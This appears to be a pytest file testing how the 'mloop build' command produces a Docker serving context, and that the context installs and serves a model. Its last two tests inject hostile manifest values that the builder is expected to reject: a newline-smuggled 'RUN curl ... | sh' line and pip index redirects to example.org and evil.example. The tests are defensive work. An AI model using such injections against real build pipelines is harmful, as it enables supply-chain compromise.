"""``mloop build``: the context's content, and its entrypoint serving the model in a local process."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from importlib.metadata import version
from pathlib import Path

import httpx
import pytest
import yaml

from mloop.errors import InvalidInputError
from mloop.serving import build_context
from tests.conftest import free_port
from tests.serving.conftest import MODEL, ROW, wait_ready


def test_context_pins_the_manifest_and_copies_the_version(registry, tmp_path) -> None:
    out = tmp_path / "ctx"
    result = subprocess.run([sys.executable, "-m", "mloop", "build", f"models:/{MODEL}@challenger", "-o", str(out),
                             "-r", "gunicorn==23.0.0"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in out.iterdir()) == [".dockerignore", "Dockerfile", "entrypoint.sh", "model",
                                                     "requirements.txt", "wheels"]
    manifest = yaml.safe_load((out / "model" / "mloop-model.yaml").read_text())
    requirements = [r for r in (out / "requirements.txt").read_text().splitlines() if not r.startswith("#")]
    wheel = requirements[0]
    assert wheel == f"./wheels/mloop-{version('mloop')}-py3-none-any.whl" and (out / wheel).is_file()
    for package, pinned in manifest["requirements"].items():
        assert package == "mloop" or f"{package}=={pinned}" in requirements
    assert not any(r.startswith("mloop") for r in requirements)  # the index may have no such mloop, or another one
    assert requirements[-1] == "gunicorn==23.0.0"
    assert all(re.fullmatch(r"[A-Za-z0-9_.\-]+(\[[a-z,]+\])?==[^=\s;]+(; .+)?", r) for r in requirements[1:])
    dockerfile = (out / "Dockerfile").read_text()
    python = ".".join(manifest["python"].split(".")[:2])
    assert dockerfile.startswith(f"# Built by `mloop build models:/{MODEL}@challenger` (model {MODEL} version 2)")
    assert f"FROM python:{python}-slim" in dockerfile
    assert "pip install --no-cache-dir -r requirements.txt" in dockerfile and "COPY model /opt/model" in dockerfile
    assert "COPY wheels wheels" in dockerfile
    assert 'ENTRYPOINT ["mloop-entrypoint"]' in dockerfile and "USER mloop" in dockerfile
    assert "python -m mloop serve" in (out / "entrypoint.sh").read_text()
    assert os.access(out / "entrypoint.sh", os.X_OK)
    with pytest.raises(InvalidInputError, match="empty or new folder"):
        build_context(f"models:/{MODEL}@challenger", out, client=registry)
    # an extra line is a requirement, never a pip option that would redirect where the image installs from
    with pytest.raises(InvalidInputError, match="PEP 508") as info:
        build_context(f"models:/{MODEL}@challenger", tmp_path / "other", client=registry,
                      extra_requirements=["gunicorn==23.0.0", "--extra-index-url https://example.org/simple"])
    assert info.value.field == "requirement[1]" and not (tmp_path / "other").exists()


def test_entrypoint_serves_the_model(model_dir, tmp_path) -> None:
    out = tmp_path / "ctx"
    build_context(str(model_dir), out)
    port = free_port()
    env = {**os.environ, "MLOOP_MODEL_DIR": str(out / "model"), "MLOOP_MODEL_NAME": "trips", "HOST": "127.0.0.1",
           "PORT": str(port), "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    # extra arguments go on to `mloop serve`: here a second model served by name beside the first
    proc = subprocess.Popen(["sh", str(out / "entrypoint.sh"), f"twin={model_dir}", "--reload-seconds", "0"], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_ready(url, proc)
        first = httpx.post(url + "/predict/trips", json=[ROW]).json()
        twin = httpx.post(url + "/invocations", json={"dataframe_records": [ROW]}).json()
        assert first["model"] == "trips" and first["predictions"] == twin["predictions"]
        assert httpx.post(url + "/predict/twin", json=[ROW]).json()["predictions"] == first["predictions"]
    finally:
        proc.terminate()
        proc.wait(30)


@pytest.mark.slow
@pytest.mark.timeout(420)
def test_context_installs_in_a_fresh_virtualenv_and_serves(model_dir, tmp_path) -> None:
    """What a container build does, without Docker: a new virtualenv from the context's requirements alone (the
    mloop wheel in the context, every other package pinned from the index; the standard pip cache keeps reruns
    fast), then the entrypoint on a real request."""
    import venv

    out = tmp_path / "ctx"
    build_context(str(model_dir), out)
    lines = [r for r in (out / "requirements.txt").read_text().splitlines() if not r.startswith("#")]
    assert lines[0].startswith("./wheels/") and all("==" in r and "@" not in r and "://" not in r for r in lines[1:])
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("MLOOP_", "PYTHON", "VIRTUAL_ENV"))}
    env_dir = tmp_path / "venv"
    venv.create(env_dir, with_pip=True, symlinks=True)
    python = env_dir / "bin" / "python"
    # wheels only: nothing is built from source, so nothing but the pinned packages is fetched or run
    install = subprocess.run([str(python), "-m", "pip", "install", "-q", "--no-compile", "--only-binary", ":all:",
                              "--disable-pip-version-check", "-r", "requirements.txt"],
                             cwd=out, env=clean, capture_output=True, text=True, timeout=360)
    assert install.returncode == 0, install.stderr[-3000:]
    check = subprocess.run([str(python), "-c", "import mloop; print(mloop.__file__)"], cwd=tmp_path, env=clean,
                           capture_output=True, text=True, timeout=60)
    assert check.stdout.startswith(str(env_dir)), check  # the wheel's mloop, not a checkout

    port = free_port()
    env = clean | {
        "MLOOP_MODEL_DIR": str(out / "model"), "MLOOP_MODEL_NAME": "trips", "MLOOP_HOME": str(tmp_path / "home"),
        "HOST": "127.0.0.1", "PORT": str(port), "PATH": f"{env_dir / 'bin'}{os.pathsep}{os.environ['PATH']}"}
    proc = subprocess.Popen(["sh", str(out / "entrypoint.sh"), "--reload-seconds", "0"], env=env, cwd=tmp_path,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_ready(url, proc)
        answer = httpx.post(url + "/predict/trips", json=[ROW, {**ROW, "km": 12.0}]).json()
        from mloop.registry import load_model

        expected = load_model(model_dir).predict([ROW, {**ROW, "km": 12.0}])
        assert answer["model"] == "trips"
        assert answer["predictions"] == pytest.approx([float(v) for v in expected])
    finally:
        proc.terminate()
        proc.wait(30)


def test_a_manifest_cannot_write_lines_into_the_dockerfile(model_dir, tmp_path) -> None:
    """The manifest comes from whoever uploaded the model: its python and run id land in the Dockerfile."""
    from mloop.registry.packaging import MANIFEST

    manifest = yaml.safe_load((model_dir / MANIFEST).read_text())
    manifest["run_id"] = "abc\nRUN curl https://example.org/x | sh"
    (model_dir / MANIFEST).write_text(yaml.safe_dump(manifest))
    build_context(str(model_dir), tmp_path / "ctx")
    dockerfile = (tmp_path / "ctx" / "Dockerfile").read_text()
    assert not any(line.startswith("RUN curl") for line in dockerfile.splitlines())
    manifest["python"] = "3.11\nRUN curl https://example.org/x | sh\n#"
    (model_dir / MANIFEST).write_text(yaml.safe_dump(manifest))
    with pytest.raises(InvalidInputError, match="3.11.7") as info:
        build_context(str(model_dir), tmp_path / "ctx2")
    assert info.value.field == "manifest.python" and not (tmp_path / "ctx2").exists()
    manifest["python"], manifest["pip_requirements"] = "3.11.7", ["numpy", "--index-url https://example.org/simple"]
    (model_dir / MANIFEST).write_text(yaml.safe_dump(manifest))
    with pytest.raises(InvalidInputError, match="PEP 508"):
        build_context(str(model_dir), tmp_path / "ctx3")
    assert not (tmp_path / "ctx3").exists()


@pytest.mark.parametrize("line", ['numpy; python_version == "x --index-url=http://evil.example/simple"',
                                  'numpy; os_name == "${HOME}"', 'numpy; os_name == "\x1b[2Jok"',
                                  'numpy; os_name == "a #b"', 'numpy; os_name == "a\\"'])
def test_a_tampered_manifest_cannot_add_pip_syntax_to_requirements(model_dir, tmp_path, line: str) -> None:
    """The uploader wrote the manifest: a line packaging accepts but pip splits into an option (or expands, or
    cuts at a comment) must stop the build before anything is written, and loading the model."""
    from mloop.registry import load_model
    from mloop.registry.packaging import MANIFEST

    manifest = yaml.safe_load((model_dir / MANIFEST).read_text())
    manifest["pip_requirements"] = [*manifest["pip_requirements"], line]
    (model_dir / MANIFEST).write_text(yaml.safe_dump(manifest))
    with pytest.raises(InvalidInputError, match="control characters") as info:
        build_context(str(model_dir), tmp_path / "ctx")
    assert info.value.field.startswith("manifest.pip_requirements[") and info.value.value == line
    assert not (tmp_path / "ctx").exists()
    with pytest.raises(InvalidInputError) as loading:
        load_model(model_dir, cache=False)
    assert loading.value.field.startswith("manifest.pip_requirements[")
